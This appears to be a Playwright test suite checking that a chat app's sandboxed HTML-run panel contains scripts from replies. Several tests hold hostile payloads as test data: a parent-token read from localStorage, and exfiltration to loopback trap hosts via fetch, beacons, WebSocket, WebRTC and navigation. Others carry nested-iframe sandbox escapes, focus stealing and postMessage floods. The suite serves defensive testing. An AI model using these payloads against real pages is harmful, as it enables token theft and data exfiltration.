import { createSocket } from "node:dgram";
import { createServer, type AddressInfo } from "node:net";
import type { FrameLocator, Locator } from "@playwright/test";
import { expectAccessible } from "../support/accessible.ts";
import { expect, test } from "../support/journey.ts";
import type { ChatPage } from "../support/pages/chat-page.ts";

const fence = (html: string): string => `\`\`\`html\n${html}\n\`\`\``;

/** Loopback listeners that nothing may reach: what came in, by its kind. */
async function startTraps() {
  const reached: string[] = [];
  const tcp = createServer((socket) => {
    reached.push("a connection");
    socket.destroy();
  });
  await new Promise<void>((resolve) => tcp.listen(0, "127.0.0.1", resolve));
  const udp = createSocket("udp4");
  udp.on("message", () => reached.push("a packet"));
  await new Promise<void>((resolve) => udp.bind(0, "127.0.0.1", resolve));
  return {
    reached,
    tcpPort: (tcp.address() as AddressInfo).port,
    udpPort: udp.address().port,
    close() {
      tcp.close();
      udp.close();
    },
  };
}

/** The parts of the panel in a page. */
function panelOf(chat: ChatPage): { panel: Locator; frame: FrameLocator; report: Locator } {
  const panel = chat.sidePanel;
  return {
    panel,
    frame: panel.frameLocator("iframe"),
    report: panel.getByRole("log", { name: chat.text("run.report") }),
  };
}

test("HTML of a reply runs in the panel, again on wish, says what goes wrong, and goes with the place [REND-007] [SHELL-055] [SHELL-043]", async ({
  chat,
  upstream,
  calls,
  question,
  consoleWatch,
}) => {
  calls.expect({ answer: 1 });
  // The error of the script that runs there, and the refusal of what it asks for.
  consoleWatch.allow(/this one is known/, /Content Security Policy/);
  const { page } = chat;
  const page1 = `<h1>It runs</h1><button onclick="this.textContent='pressed'">press</button>
<a href="#end">down</a><p style="height:3000px"></p><h2 id="end">The end</h2>
<script>onhashchange=()=>{for(const step of [1,2,3])history.pushState(step,"");document.querySelector("h2").append(" at step "+history.state)}</script>`;
  const page2 =
    "<script src='https://cdn.example/x.js'></script><p>second</p><script>throw new Error('this one is known')</script>";
  upstream.script({
    match: { user: question, kind: "answer" },
    answer: `${fence(page1)}\n\n${fence(page2)}\n\n\`\`\`js\nlet a = 1;\n\`\`\`\n\nDone.`,
  });
  await chat.send(question);
  await chat.finished();
  const run = chat.lastReply.getByRole("button", { name: chat.text("markdown.run"), exact: true });
  await expect(run).toHaveCount(2);
  const { panel, frame, report } = panelOf(chat);

  await run.first().press("Enter");
  await expect(panel.getByRole("heading", { name: chat.text("run.title") })).toBeVisible();
  await expect(panel).toBeFocused();
  await frame.getByRole("button", { name: "press" }).click();
  await expect(frame.getByText("pressed")).toBeVisible();
  await panel.getByRole("button", { name: chat.text("run.again") }).click();
  await expect(frame.getByRole("button", { name: "press", exact: true })).toBeVisible();
  await expect(report).toBeEmpty();

  await run.last().click();
  await expect(frame.getByText("second")).toBeVisible();
  await expect(report).toContainText("this one is known");
  await expect(report).toContainText("cdn.example");
  await expectAccessible(page, "the panel with HTML that runs");

  await panel.getByRole("button", { name: chat.text("common.close") }).click();
  await expect(panel).toHaveCount(0);
  await expect(run.last()).toBeFocused();

  // Where there is no room beside the chat the panel lies over it, and the sidebar, opened by hand, gives way.
  await page.setViewportSize({ width: 900, height: 700 });
  await page.getByRole("button", { name: chat.text("sidebar.expand") }).click();
  const sidebar = page.getByRole("button", { name: chat.text("sidebar.collapse") });
  await expect(sidebar).toBeVisible();
  await run.first().click();
  await expect(page.getByRole("dialog", { name: chat.text("run.title") })).toBeVisible();
  await expect(page.getByRole("button", { name: chat.text("sidebar.expand") })).toBeAttached();
  await expect(sidebar).toHaveCount(0);
  const isShutOff = () => chat.composer.evaluate((field) => field.closest("[inert]") !== null);
  expect(await isShutOff()).toBe(true);
  await page.keyboard.press("Escape");
  await expect(panel).toHaveCount(0);
  expect(await isShutOff()).toBe(false);

  await page.setViewportSize({ width: 1440, height: 900 });
  await run.first().click();
  await expect(frame.getByRole("button", { name: "press" })).toBeVisible();
  // A place in that page is found, and what it does adds no step: a single Back leads out.
  const steps = await page.evaluate(() => history.length);
  await frame.getByRole("link", { name: "down" }).click();
  const end = frame.getByRole("heading", { name: "The end at step 3" });
  await expect(end).toBeInViewport();
  expect(await page.evaluate(() => history.length)).toBe(steps);
  await page.goBack();
  await expect(panel).toHaveCount(0);
});

test("where the browser knows no list of allowed connections, what runs in the panel has no frame that could send packets", async ({
  chat,
  upstream,
  calls,
  question,
  consoleWatch,
}) => {
  calls.expect({ answer: 1 });
  consoleWatch.allow(/./);
  const { page } = chat;
  await page.route("**/static/run.html", async (route) => {
    const response = await route.fetch();
    const { "connection-allowlist": _none, ...headers } = response.headers();
    await route.fulfill({ response, headers });
  });
  const traps = await startTraps();
  const script = `<script>let c=new RTCPeerConnection({iceServers:[{urls:"stun:127.0.0.1:${traps.udpPort}"}]});c.createDataChannel("x");c.createOffer().then(o=>c.setLocalDescription(o))</script>`;
  const quoted = script.replaceAll('"', "&quot;");
  const inScript = JSON.stringify(script).replaceAll("</", "<\\/");
  const make = `const f=document.createElement("iframe");f.srcdoc=${inScript};`;
  const tries = [
    `<iframe srcdoc="${quoted}"></iframe>`,
    `<div><p><iframe src="javascript:'${quoted.replaceAll("'", "")}'"></iframe></div>`,
    `<script>${make}document.body.append(f)</script>`,
    `<script>${make}const d=document.createElement("div");d.append(f);document.body.append(d)</script>`,
    `<div id="h"></div><script>${make}h.attachShadow({mode:"closed"}).append(f)</script>`,
    `<script>document.write('<iframe srcdoc="${quoted.replaceAll("</", "<\\/")}"></iframe>')</script>`,
    `<script>document.body.innerHTML='<b><object data="x"></object><iframe srcdoc="${quoted.replaceAll("</", "<\\/")}"></iframe></b>'</script>`,
  ].map((html) => `<body>${html}<script>setTimeout(()=>document.body.append("tried"),400)</script></body>`);
  upstream.script({
    match: { user: question, kind: "answer" },
    answer: tries.map(fence).join("\n\n"),
  });
  await chat.send(question);
  await chat.finished();
  const run = chat.lastReply.getByRole("button", { name: chat.text("markdown.run"), exact: true });
  const { frame } = panelOf(chat);
  for (const index of tries.keys()) {
    await run.nth(index).click();
    await expect(frame.getByText("tried")).toBeVisible();
    await expect(frame.locator("iframe")).toHaveCount(0);
  }
  expect(traps.reached).toEqual([]);
  traps.close();
});

test("what runs in the panel reaches neither our page nor anything outside, and a loop in it freezes nothing", async ({
  chat,
  upstream,
  calls,
  question,
  consoleWatch,
}) => {
  calls.expect({ answer: 1 });
  // Everything that is tried here is refused, most of it aloud.
  consoleWatch.allow(/./);
  const { page } = chat;
  const traps = await startTraps();
  const outside = `http://127.0.0.1:${traps.tcpPort}`;
  const peer = `new RTCPeerConnection({iceServers:[{urls:"stun:127.0.0.1:${traps.udpPort}"}]})`;
  const call = `let c=${peer};c.createDataChannel("x");c.createOffer().then(o=>c.setLocalDescription(o))`;
  const done = `setTimeout(()=>document.body.append("tried"),250)`;
  const tries = [
    `try{top.document.title="reached"}catch{} try{top.location="${outside}/top"}catch{} ${done}`,
    `try{document.title=parent.localStorage.getItem("plumb.token")}catch{} try{localStorage.x=1}catch{} ${done}`,
    `fetch("${outside}/f").catch(()=>{});new Image().src="${outside}/i";navigator.sendBeacon("${outside}/b");try{new WebSocket("ws://127.0.0.1:${traps.tcpPort}")}catch{} open("${outside}/open");${done}`,
    `try{${call}}catch{} ${done}`,
    `const f=document.createElement("iframe");document.body.append(f);try{f.contentWindow.eval(${JSON.stringify(call)})}catch{} try{const R=f.contentWindow.RTCPeerConnection;RTCPeerConnection=R;${call}}catch{} ${done}`,
    `const l=document.createElement("link");l.rel="preconnect";l.href="${outside}";document.head.append(l);${done}`,
  ].map((script) => `<body><script>${script}</script></body>`);
  const leaving = [
    `<script>location="${outside}/nav?"+document.title</script>`,
    `<meta http-equiv="refresh" content="0;url=${outside}/meta">`,
    `<iframe src="${outside}/frame"></iframe><form action="${outside}/form"></form><script>document.forms[0].submit()</script>`,
  ];
  const loop = "<p>looping</p><script>for(;;){}</script>";
  upstream.script({
    match: { user: question, kind: "answer" },
    answer: [...tries, ...leaving, loop].map(fence).join("\n\n"),
  });
  await chat.send(question);
  await chat.finished();
  // The title comes after the reply; from then on nothing may change it.
  await expect(page).toHaveTitle(/^Scripted title/);
  const title = await page.title();
  const run = chat.lastReply.getByRole("button", { name: chat.text("markdown.run"), exact: true });
  const { panel, frame } = panelOf(chat);
  for (const index of tries.keys()) {
    await run.nth(index).click();
    await expect(frame.getByText("tried")).toBeVisible();
  }
  for (const [index] of leaving.entries()) {
    const refused = page.waitForEvent("console", {
      predicate: (line) => /Security Policy|sandboxed/.test(line.text()),
    });
    await run.nth(tries.length + index).click();
    await refused;
  }

  // A page in a process of its own: ours takes presses while that one turns for ever.
  await run.last().click();
  await expect(panel.locator("iframe")).toBeVisible();
  await chat.composer.fill("still here");
  await expect(chat.composer).toHaveValue("still here");
  // The first: on a slow machine the page may be stopped by now, and offers a second.
  await panel
    .getByRole("button", { name: chat.text("run.again") })
    .first()
    .click();
  await panel.getByRole("button", { name: chat.text("common.close") }).click();
  await expect(panel).toHaveCount(0);
  await chat.composer.fill("");
  expect(await page.title()).toBe(title);
  expect(traps.reached).toEqual([]);
  traps.close();
});

test("what runs in the panel has the focus when its reader presses in it or tabs there, and takes it from nobody", async ({
  chat,
  upstream,
  calls,
  question,
  consoleWatch,
}) => {
  calls.expect({ answer: 1 });
  consoleWatch.allow(/./);
  const { page } = chat;
  const asking = `<input id="i" autofocus aria-label="name"><script>let n=0;setInterval(()=>{i.focus();i.select();focus();if(++n===20)document.body.append("tried")},20)</script>`;
  // Past what the page itself does about it, as one who means to does.
  const taking = `<input id="i" required><button onclick="setInterval(()=>{i.blur();i.reportValidity()},300)">begin</button>`;
  upstream.script({
    match: { user: question, kind: "answer" },
    answer: [asking, taking].map(fence).join("\n\n"),
  });
  await chat.send(question);
  await chat.finished();
  const run = chat.lastReply.getByRole("button", { name: chat.text("markdown.run"), exact: true });
  const { panel, frame } = panelOf(chat);
  const field = frame.getByRole("textbox", { name: "name" });

  await run.first().click();
  await expect(field).toBeVisible();
  await chat.composer.click();
  await page.keyboard.type("written while it asks for the focus", { delay: 20 });
  await expect(frame.getByText("tried")).toBeVisible();
  await expect(chat.composer).toBeFocused();
  await expect(chat.composer).toHaveValue("written while it asks for the focus");
  await chat.composer.fill("");
  await field.click();
  await page.keyboard.type("Anna");
  await expect(field).toHaveValue(/a$/);
  await chat.composer.focus();
  await panel.getByRole("button", { name: chat.text("common.close") }).focus();
  await page.keyboard.press("Tab");
  await expect(panel.locator("iframe")).toBeFocused();

  const stopped = panel.getByText(chat.text("run.stoppedFocus"));
  const begin = frame.getByRole("button", { name: "begin" });
  await run.last().click();
  await begin.click();
  await chat.composer.click();
  await expect(stopped).toBeVisible();
  await expect(panel.locator("iframe")).toHaveCount(0);
  await expect(chat.composer).toBeFocused();

  await panel
    .getByRole("button", { name: chat.text("run.again") })
    .last()
    .click();
  await begin.click();
  await chat.composer.click();
  await page.keyboard.press("Control+k");
  const search = page.getByRole("dialog").getByRole("combobox");
  await expect(search).toBeFocused();
  await expect(stopped).toBeAttached();
  await expect(search).toBeFocused();
});

test("what harms the page around it is stopped and can be run again, and nothing comes out of the panel", async ({
  chat,
  upstream,
  calls,
  question,
  consoleWatch,
}) => {
  calls.expect({ answer: 1 });
  consoleWatch.allow(/./);
  const { page } = chat;
  const cameOut: string[] = [];
  page.on("dialog", () => cameOut.push("a dialog"));
  page.on("download", () => cameOut.push("a file"));
  page.on("popup", () => cameOut.push("a window"));
  const stops = [
    [
      "<script>setInterval(()=>{for(let n=0;n<1000;n++)parent.postMessage('x','*')})</script>",
      "run.stoppedMessages",
    ],
    ["<script>parent.postMessage({a:{b:['x'.repeat(2e5)]}},'*')</script>", "run.stoppedMessages"],
    ["<script>let n=0;setInterval(()=>location.hash=n++,20)</script>", "run.stoppedSteps"],
    [
      `<script>const a=document.createElement("a");a.href="data:text/plain,x";a.download="x";
for(let n=0;n<50;n++){a.click();alert(1);print();confirm(1);open("about:blank");history.back();document.documentElement.requestFullscreen().catch(()=>{})}
for(;;);</script>`,
      "run.stoppedSilence",
    ],
  ] as const;
  upstream.script({
    match: { user: question, kind: "answer" },
    answer: stops.map(([html]) => fence(html)).join("\n\n"),
  });
  await chat.send(question);
  await chat.finished();
  const address = page.url();
  const run = chat.lastReply.getByRole("button", { name: chat.text("markdown.run"), exact: true });
  const { panel } = panelOf(chat);
  for (const [index, [, reason]] of stops.entries()) {
    await run.nth(index).click();
    await expect(panel.getByRole("alert")).toHaveText(chat.text(reason), { timeout: 20_000 });
    await expect(panel.locator("iframe")).toHaveCount(0);
  }
  await expectAccessible(page, "a page that was stopped");
  await panel
    .getByRole("button", { name: chat.text("run.again") })
    .last()
    .click();
  await expect(panel.locator("iframe")).toBeVisible();
  expect(page.url()).toBe(address);
  expect(await page.evaluate(() => document.fullscreenElement)).toBeNull();
  expect(cameOut).toEqual([]);
});
